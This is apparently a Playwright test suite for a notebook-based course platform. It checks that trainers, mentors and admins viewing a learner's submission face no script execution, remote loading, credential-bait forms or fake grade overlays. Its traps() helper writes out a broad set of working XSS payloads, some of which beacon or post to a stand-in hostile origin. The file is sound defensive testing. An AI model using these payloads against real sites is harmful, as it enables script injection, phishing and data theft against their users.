"""What a learner's work can do to those who look at it: nothing runs, nothing is loaded, nothing leaves their screen."""

from __future__ import annotations

import json
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.attacks.platform import cast
from tests.doubles.notebooks import cell

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.attacks.platform.cast import Workspace
    from tests.attacks.platform.conftest import Submitted
    from tests.attacks.platform.hostile import HostileSite
    from tests.running_platform import Platform, SignIn

pytestmark = pytest.mark.attacks

FORMGRADER = f"atelier/courses/{cast.TRACK}/formgrader"
OUTPUT_SEEN, ANSWER_SEEN, MESSAGE_SEEN = "seen-in-an-output", "seen-in-an-answer", "seen-in-a-message"


def traps(away: str) -> str:
    """Return HTML that runs, calls or leads away in every way that an old browser knew."""
    run = f"top.canary=1;window.canary=1;parent.canary=1;document.title='CANARY';new Image().src='{away}/ran'"
    return "\n".join((
        f"<script>{run}</script>",
        f'<script src="{away}/script.js"></script>',
        f'<img src="{away}/pixel.png" onerror="{run}">',
        f'<img src=x onerror="{run}">',
        (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script><animate onbegin="{run}" attributeName=x dur=1s />'
        f'<foreignObject><img src=x onerror="{run}"></foreignObject><image href="{away}/svg.png" /></svg>'),
        f'<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>',
        f'<a href="javascript:{run}" class="bait">click</a> <a href="java\tscript:{run}" class="bait">click</a>',
        f'<a href="data:text/html,<script>{run}</script>" class="bait">click</a>',
        f'<iframe src="{away}/frame"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>',
        f'<object data="{away}/object"></object><embed src="{away}/embed">',
        f'<meta http-equiv="refresh" content="0;url={away}/refresh"><base href="{away}/base/"><link rel="stylesheet" href="{away}/style.css">',
        f'<form action="{away}/form"><input name="password" autofocus onfocus="{run}"><button class="bait">Sign in</button></form>',
        f"<style>@import url('{away}/import.css'); body {{ background: url('{away}/background.png') }}</style>",
        f'<div class="overlay" style="position:fixed;inset:0;z-index:99999;background:url({away}/overlay.png)">10 / 10</div>',
        f'<details open ontoggle="{run}"><summary>x</summary></details><video autoplay src="{away}/v.mp4" onerror="{run}"></video>',
        f'<audio src="{away}/a.mp3" onerror="{run}"></audio><body onload="{run}">',
    ))  # fmt: skip


def hostile_work(away: str) -> dict[str, bytes]:
    """Return work whose outputs, answers, messages, names and metadata all hold traps."""
    trap = traps(away)
    code = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, JSON, display
import sys
trap = {trap!r}
display(HTML("<p>{OUTPUT_SEEN}</p>" + trap), SVG('<svg xmlns="http://www.w3.org/2000/svg">' + trap + '</svg>') if False else HTML(trap))
display({{"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="top.canary=2"><script>top.canary=2</script></svg>'}}, raw=True)
display({{"text/html": trap, "text/markdown": trap, "text/latex": "$\\\\href{{javascript:top.canary=3}}{{x}}$",
         "application/javascript": "top.canary=4", "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}},
         "application/vnd.plotly.v1+json": {{"data": trap}}, "image/png": '"><script>top.canary=5</script>'}}, raw=True)
display(Javascript("top.canary=6"), Markdown(trap), Latex("$$\\\\href{{javascript:top.canary=7}}{{x}}$$"))
print(trap)
print(trap, file=sys.stderr)
print("\\x1b[31m<script>top.canary=8</script>\\x1b]8;;javascript:top.canary=9\\x07x\\x1b]8;;\\x07 \\u202e")
def greet(name):
    return "{MESSAGE_SEEN} " + trap
"""
    added = cell(
        f"{ANSWER_SEEN}-added\n\n{trap}\n\n[bait](javascript:top.canary=10) ![x]({away}/markdown.png)",
        kind="markdown",
    )
    raw = cell(trap, kind="raw", raw_mimetype="text/html", format="text/html")
    late = cell(f"raise ValueError({trap!r})")
    attached = cell("![a](attachment:x.svg)", kind="markdown")
    attached["attachments"] = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9InRvcC5jYW5hcnk9MTEiLz4="}}
    files = cast.work(code, f"{ANSWER_SEEN}\n\n{trap}\n\n[bait](javascript:top.canary=12)\n\n$\\href{{javascript:top.canary=13}}{{x}}$",
                      added, raw, attached, late)  # fmt: skip
    return files | {
        "page.html": trap.encode(),
        "image.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{trap}</svg>'.encode(),
    }


@pytest.fixture(scope="module")
def submission(submitted: Submitted, neighbour: HostileSite) -> str:
    return submitted(cast.ATTACKER, hostile_work(neighbour.origin))


@dataclass
class Watch:
    """What a page did that it should not do."""

    page: Page
    away: str
    seen: list[str] = field(default_factory=list)

    def on_dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def check(self, site: HostileSite) -> None:
        """Judge everything that has been loaded, in every frame of the page."""
        self.page.wait_for_load_state("networkidle")
        assert "CANARY" not in self.page.title()
        for frame in self.page.frames:
            assert not frame.evaluate("window.canary || 0"), f"a script ran in {frame.url}"
            assert "CANARY" not in frame.evaluate("document.title")
            links = frame.evaluate(
                "[...document.querySelectorAll('a[href], area[href], use')].map(a => a.href || '').map(String)"
            )
            assert not [
                link for link in links if link.startswith(("javascript:", "data:text", "vbscript:"))
            ], frame.url
            for bait in frame.query_selector_all("a.bait, button.bait"):
                bait.dispatch_event("click")
            forms = frame.evaluate("[...document.forms].map(form => form.action)")
            assert not [action for action in forms if self.away in action], frame.url
        self.page.wait_for_load_state("networkidle")
        assert not any(frame.evaluate("window.canary || 0") for frame in self.page.frames)
        assert not self.seen
        assert not site.visits, "something called home"


@contextmanager
def watching(page: Page, site: HostileSite) -> Iterator[Watch]:
    """Watch a page, and judge it at the end."""
    site.visits.clear()
    watch = Watch(page, site.origin)
    page.on("dialog", watch.on_dialog)
    page.context.on(
        "requestfinished",
        lambda request: watch.seen.append(request.url) if site.origin in request.url else None,
    )
    page.context.on("page", lambda other: watch.seen.append(f"window: {other.url}"))
    yield watch
    watch.check(site)


def open_feedback(page: Page) -> None:
    """Unfold the notebook and wait until it has been drawn."""
    page.locator("#notebook-title").click()
    frame = page.frame_locator("iframe.feedback-frame").locator("body")
    expect(frame).to_contain_text(OUTPUT_SEEN)
    expect(frame).to_contain_text(ANSWER_SEEN)


def test_the_traps_work_where_nobody_guards(sign_in: SignIn, neighbour: HostileSite) -> None:
    """Without this a trap that never springs would pass for a disarmed one."""
    page = sign_in(cast.TRAINER)
    neighbour.visits.clear()
    page.goto(
        neighbour.page("unguarded", traps(neighbour.origin).replace('content="0;', 'content="900;')),
        wait_until="commit",
    )
    page.wait_for_function("window.canary === 1 && document.title === 'CANARY'")
    assert "/ran" in neighbour.visits


@pytest.mark.parametrize("name", [cast.TRAINER, cast.MENTOR, cast.ATTACKER])
def test_the_page_of_a_submission_and_its_feedback(
    platform: Platform, sign_in: SignIn, neighbour: HostileSite, submission: str, name: str
) -> None:
    page = sign_in(name)
    with watching(page, neighbour):
        page.goto(platform.page_url(f"submissions/{submission}"))
        expect(page.locator("main")).to_contain_text(MESSAGE_SEEN)
        open_feedback(page)


@pytest.mark.parametrize(
    ("name", "path"),
    [
        (cast.TRAINER, "trainer/overview"),
        (cast.TRAINER, "trainer/submissions"),
        (cast.MENTOR, "mentor"),
        (cast.MENTOR, f"mentor/learners/{cast.ATTACKER}"),
        (cast.ADMIN, "admin/people"),
        (cast.ADMIN, f"admin/people/{cast.ATTACKER}"),
    ],
)
def test_lists_and_timelines(
    platform: Platform, sign_in: SignIn, neighbour: HostileSite, submission: str, name: str, path: str
) -> None:
    page = sign_in(name)
    with watching(page, neighbour):
        page.goto(platform.page_url(path))
        seen = page.locator("main").inner_html()
        assert "Mallory &lt;img" in seen or 'value="Mallory' in seen or path == "trainer/overview"


def test_feedback_opened_by_itself(
    platform: Platform, sign_in: SignIn, neighbour: HostileSite, submission: str
) -> None:
    """The frame's own address, opened as a page: the sandbox is the answer's, not the frame's."""
    page = sign_in(cast.TRAINER)
    with watching(page, neighbour):
        answer = page.goto(platform.page_url(f"submissions/{submission}/feedback/{cast.EXERCISE}.html"))
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "sandbox" in policy
        assert "allow-scripts" not in policy
        assert "allow-same-origin" not in policy
        expect(page.locator("body")).to_contain_text(OUTPUT_SEEN)
        assert page.evaluate("self.origin") == "null"


def test_formgraders_page_of_the_notebook(
    platform: Platform,
    sign_in: SignIn,
    workspace: Callable[[str], Workspace],
    neighbour: HostileSite,
    submission: str,
) -> None:
    workspace(cast.TRAINER)
    page = sign_in(cast.TRAINER)
    with watching(page, neighbour):
        first = page.goto(notebook_address(platform, page))
        assert first is not None
        assert first.status == 200
        expect(page.locator("body")).to_contain_text(OUTPUT_SEEN)
        expect(page.locator("body")).to_contain_text(ANSWER_SEEN)
        overlays = page.evaluate("[...document.querySelectorAll('*')].filter(one => getComputedStyle(one).position === 'fixed'"
                                 " && one.textContent.trim() === '10 / 10').length")  # fmt: skip
        assert not overlays, "a learner's work lies over the page"


def notebook_address(platform: Platform, page: Page) -> str:
    """Return formgrader's address of the attacker's notebook, as formgrader's own API has it."""
    page.goto(
        platform.server_url(
            cast.TRAINER, f"{FORMGRADER}/api/submitted_notebooks/{cast.EXERCISE}/{cast.EXERCISE}"
        )
    )
    (own,) = [row for row in json.loads(page.inner_text("body")) if row["student"] == cast.ATTACKER]
    return platform.server_url(cast.TRAINER, f"{FORMGRADER}/submissions/{own['id']}/")


def test_files_beside_the_notebook_are_no_pages(
    platform: Platform,
    sign_in: SignIn,
    workspace: Callable[[str], Workspace],
    neighbour: HostileSite,
    submission: str,
) -> None:
    workspace(cast.TRAINER)
    page = sign_in(cast.TRAINER)
    notebook = notebook_address(platform, page)
    for name in ("page.html", "image.svg"):
        with watching(page, neighbour):
            page.goto(f"{notebook}{name}", wait_until="commit")
